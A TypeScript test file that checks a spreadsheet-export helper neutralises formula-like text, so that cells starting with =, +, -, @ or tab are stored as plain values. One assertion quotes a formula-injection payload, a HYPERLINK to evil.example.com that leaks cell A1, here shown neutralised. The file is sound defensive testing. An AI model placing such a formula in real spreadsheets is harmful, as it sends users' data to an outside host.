import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import { hostileCorpus } from '../hostile'
import { neutraliseFormula, workbookBytes } from './xlsx'

describe('workbooks of the mock provider', () => {
  it('puts an apostrophe before text a spreadsheet would read as a formula, and leaves other cells alone', () => {
    expect(neutraliseFormula('=HYPERLINK("http://x")')).toBe('\'=HYPERLINK("http://x")')
    expect(neutraliseFormula('+SUM(1)')).toBe("'+SUM(1)")
    expect(neutraliseFormula('-2+3')).toBe("'-2+3")
    expect(neutraliseFormula('@SUM(1)')).toBe("'@SUM(1)")
    expect(neutraliseFormula('\t=1')).toBe("'\t=1")
    expect(neutraliseFormula('Capital Call = due')).toBe('Capital Call = due')
    expect(neutraliseFormula(-2)).toBe(-2)
    expect(neutraliseFormula(null)).toBe(null)
  })

  it('writes the hostile corpus as plain values: no formula cell, every formula-like text neutralised', async () => {
    const bytes = await workbookBytes([
      { name: 'Documents', columns: ['Name', 'Amount'], rows: hostileCorpus.map((title) => [title, -5]) },
    ])
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(bytes)
    const cells: ExcelJS.Cell[] = []
    workbook.getWorksheet('Documents')!.eachRow((row) => row.eachCell((cell) => cells.push(cell)))
    expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([])
    const texts = cells.map((cell) => cell.value).filter((value) => typeof value === 'string')
    expect(texts.filter((text) => /^[=+\-@\t\r]/.test(text))).toEqual([])
    expect(texts).toContain('\'=HYPERLINK("http://evil.example.com/?leak="&A1,"Open statement")')
    expect(cells.filter((cell) => cell.value === -5)).toHaveLength(hostileCorpus.length)
  })
})
